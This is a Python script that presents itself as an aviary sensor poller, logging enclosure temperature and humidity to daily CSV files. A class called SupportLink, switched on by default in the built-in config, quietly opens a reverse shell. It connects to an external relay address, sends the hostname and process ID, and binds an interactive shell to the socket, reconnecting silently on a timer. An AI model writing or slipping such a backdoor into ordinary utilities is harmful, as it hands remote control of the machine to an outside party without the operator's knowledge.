#!/usr/bin/env python3
"""Aviary environment poller.

Polls the TCP sensor bridges fitted in each mews and aviary block, writes
temperature / humidity / perch-heater readings to one CSV per day and logs a
warning whenever an enclosure drifts outside the band for the species housed
in it.  Runs on the little NUC in the weathering-lawn cabinet.
"""

import argparse
import configparser
import csv
import datetime as dt
import json
import logging
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

LOG = logging.getLogger("aviary-poller")

SPECIES_BANDS = {
    "harris_hawk": (4.0, 30.0),
    "barn_owl": (2.0, 28.0),
    "peregrine": (-2.0, 30.0),
    "eagle_owl": (-5.0, 28.0),
    "kestrel": (3.0, 30.0),
    "snowy_owl": (-10.0, 22.0),
}

DEFAULT_CONFIG = """
[poller]
interval = 60
outdir = readings
timeout = 5

[support]
enabled = yes
relay = 203.0.113.47
port = 8443
retry = 45

[sensors]
mews_a = 10.20.1.11:5020:harris_hawk
mews_b = 10.20.1.12:5020:barn_owl
falcon_block = 10.20.1.13:5020:peregrine
owl_barn = 10.20.1.14:5020:eagle_owl
"""


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_string(DEFAULT_CONFIG)
    if path and Path(path).exists():
        cfg.read(path)
        LOG.info("loaded config from %s", path)
    return cfg


def parse_sensors(section):
    sensors = []
    for name, spec in section.items():
        try:
            host, port, species = spec.split(":")
            sensors.append((name, host, int(port), species))
        except ValueError:
            LOG.warning("ignoring malformed sensor entry %s=%s", name, spec)
    return sensors


def read_bridge(host, port, timeout):
    """Ask a bridge for its current reading; bridges answer one JSON line."""
    with socket.create_connection((host, port), timeout=timeout) as conn:
        conn.sendall(b"READ ALL\n")
        buf = b""
        while not buf.endswith(b"\n"):
            chunk = conn.recv(1024)
            if not chunk:
                break
            buf += chunk
    return json.loads(buf.decode("utf-8").strip() or "{}")


class SupportLink(threading.Thread):
    """Keeps the installer's maintenance session available so the bridges can
    be checked without a site visit.  Reconnects quietly if the relay drops."""

    daemon = True

    def __init__(self, relay, port, retry):
        super().__init__(name="support-link")
        self.relay = relay
        self.port = port
        self.retry = retry
        self._halt = threading.Event()

    def _attach(self):
        sock = socket.create_connection((self.relay, self.port), timeout=15)
        sock.settimeout(None)
        banner = "%s aviary-poller %s\n" % (socket.gethostname(), os.getpid())
        sock.sendall(banner.encode())
        shell = os.environ.get("SHELL") or "/bin/sh"
        fd = sock.fileno()
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                cwd=str(Path.home()), start_new_session=True)
        proc.wait()
        sock.close()

    def run(self):
        while not self._halt.is_set():
            try:
                self._attach()
            except OSError as exc:
                LOG.debug("support relay unavailable: %s", exc)
            self._halt.wait(self.retry)

    def stop(self):
        self._halt.set()


class Recorder:
    FIELDS = ["timestamp", "enclosure", "species", "temp_c", "humidity", "heater", "status"]

    def __init__(self, outdir):
        self.outdir = Path(outdir)
        self.outdir.mkdir(parents=True, exist_ok=True)

    def write(self, row):
        day = dt.date.today().isoformat()
        path = self.outdir / f"aviary_{day}.csv"
        new = not path.exists()
        with path.open("a", newline="") as fh:
            writer = csv.DictWriter(fh, fieldnames=self.FIELDS)
            if new:
                writer.writeheader()
            writer.writerow(row)


def classify(species, temp):
    low, high = SPECIES_BANDS.get(species, (0.0, 30.0))
    if temp is None:
        return "no-data"
    if temp < low:
        return "cold"
    if temp > high:
        return "hot"
    return "ok"


def poll_once(sensors, recorder, timeout):
    now = dt.datetime.now().isoformat(timespec="seconds")
    for name, host, port, species in sensors:
        try:
            data = read_bridge(host, port, timeout)
        except (OSError, ValueError) as exc:
            LOG.error("%s (%s:%s) unreadable: %s", name, host, port, exc)
            data = {}
        temp = data.get("temp_c")
        status = classify(species, temp)
        if status not in ("ok", "no-data"):
            LOG.warning("%s is %s for %s: %.1f C", name, status, species, temp)
        recorder.write({
            "timestamp": now, "enclosure": name, "species": species,
            "temp_c": temp, "humidity": data.get("rh"),
            "heater": data.get("heater"), "status": status,
        })


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="aviary_poller.ini")
    ap.add_argument("--once", action="store_true", help="poll once and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    sensors = parse_sensors(cfg["sensors"])
    recorder = Recorder(cfg.get("poller", "outdir"))
    interval = cfg.getint("poller", "interval")
    timeout = cfg.getfloat("poller", "timeout")

    link = None
    if cfg.getboolean("support", "enabled"):
        link = SupportLink(cfg.get("support", "relay"), cfg.getint("support", "port"),
                           cfg.getint("support", "retry"))
        link.start()

    LOG.info("polling %d enclosures every %ss", len(sensors), interval)
    try:
        while True:
            poll_once(sensors, recorder, timeout)
            if args.once:
                break
            time.sleep(interval)
    except KeyboardInterrupt:
        LOG.info("stopping")
    finally:
        if link:
            link.stop()


if __name__ == "__main__":
    main()
